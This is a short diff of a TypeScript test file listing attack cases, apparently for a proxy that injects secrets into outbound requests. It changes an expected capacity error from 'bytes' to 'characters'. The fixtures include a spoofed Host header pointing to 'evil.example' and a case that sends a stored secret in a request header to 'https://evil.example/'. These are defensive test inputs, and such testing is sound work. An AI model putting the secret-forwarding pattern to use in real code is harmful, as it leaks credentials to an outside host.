@@ -110,7 +110,7 @@ const values: readonly Attack[] = [
     ...at('picky'),
     ...to('https://res.example/', { Host: ['evil.example'] }),
   }),
-  attack('whole-file', ['Programmed=False/CapacityExceeded', /more than 16384 bytes/], {
+  attack('whole-file', ['Programmed=False/CapacityExceeded', /more than 16384 characters/], {
     ...to('https://evil.example/', { 'X-A': ['${A}'] }),
     env: [fromSecret('A', 'mine', 'large')],
   }),
